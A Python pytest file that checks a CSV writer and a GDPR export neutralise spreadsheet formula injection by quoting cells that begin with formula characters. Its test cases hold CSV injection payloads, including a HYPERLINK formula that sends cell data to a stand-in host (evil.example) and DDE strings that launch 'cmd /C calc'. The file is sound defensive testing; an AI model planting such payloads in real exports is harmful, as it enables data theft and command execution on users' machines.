"""CSV written for people cannot run formulas in their spreadsheet program (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from hub import csvsafe, importer
from plugins.gdpr import export
from tests.conftest import HubDB


@pytest.mark.parametrize("value, written", [
    ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"),
    ("=1+2", "'=1+2"),
    ("+1+2", "'+1+2"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
    ("\t=1+2", "'\t=1+2"),
    ("\r=1+2", "'\r=1+2"),
    ("  =1+2", "'  =1+2"),                    # some programs trim before they look
    ("+7 (916) 123-45-67", "'+7 (916) 123-45-67"),  # not a bare number: quoted, still readable
    ("-", "'-"),
    # bare numbers run nothing; a phone as Hub stores it stays dialable
    ("+79161234567", "+79161234567"),
    ("-150.00", "-150.00"),
    ("-150,50", "-150,50"),
    ("2500.50", "2500.50"),
    # plain text and empty cells are untouched
    ("Анна", "Анна"),
    ("anna@example.ru", "anna@example.ru"),
    ("a=b", "a=b"),
    ("", ""),
    (None, ""),
    (42, "42"),
])
def test_cell(value: object, written: str) -> None:
    assert csvsafe.cell(value) == written


def test_every_cell_is_quoted_so_a_separator_inside_cannot_start_a_new_cell() -> None:
    out = io.StringIO()
    csvsafe.writer(out, delimiter=";").writerow(["Ким, Олег;=1+2", "x\"y", "+79161234567"])
    assert out.getvalue() == '"Ким, Олег;=1+2";"x""y";"+79161234567"\r\n'
    assert len(next(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))) == 3
    for delimiter in (",", "\t", "|"):  # a program assuming another separator still finds no formula cell
        cells = next(csv.reader(io.StringIO(out.getvalue()), delimiter=delimiter))
        assert not any(c.lstrip(" ").startswith(csvsafe.FORMULA_START) for c in cells), cells


def test_gdpr_csv_export_neutralises_what_a_person_typed(hub_db: HubDB, tmp_path: Path) -> None:
    source = tmp_path / "clients.csv"
    with source.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f, delimiter=";").writerows([
            ["Фамилия", "Имя", "Телефон", "E-mail", "Город", "Компания"],
            ["Котова", "Анна", "+7 916 123-45-67", "anna@example.ru", "=cmd|' /C calc'!A0", "@SUM(1+9)"],
        ])
    importer.import_contacts(hub_db.engine, hub_db.settings, source)
    with hub_db.engine.connect() as conn:
        contact_id = conn.exec_driver_sql("SELECT id FROM contacts").scalar_one()
        data = export.collect(conn, contact_id)
    export.write_csv_bundle(data, tmp_path / "bundle")

    def rows(name: str) -> list[dict[str, str]]:
        with (tmp_path / "bundle" / f"{name}.csv").open(encoding="utf-8-sig", newline="") as f:
            return list(csv.DictReader(f, delimiter=";"))

    contact = rows("contact")[0]
    assert contact["city"] == "'=cmd|' /C calc'!A0"
    assert contact["company"] == "'@SUM(1+9)"
    assert contact["last_name"] == "Котова"
    identities = {(r["kind"], r["value"], r["raw"]) for r in rows("identities")}
    assert ("phone", "+79161234567", "'+7 916 123-45-67") in identities
    assert ("email", "anna@example.ru", "anna@example.ru") in identities
    # The JSON beside the CSV keeps the exact values: it is data, not a sheet.
    assert data["contact"]["city"] == "=cmd|' /C calc'!A0"
    for path in (tmp_path / "bundle").glob("*.csv"):
        for row in csv.reader(path.open(encoding="utf-8-sig", newline=""), delimiter=";"):
            assert not any(c[:1] in ("=", "@", "\t", "\r") for c in row), (path.name, row)
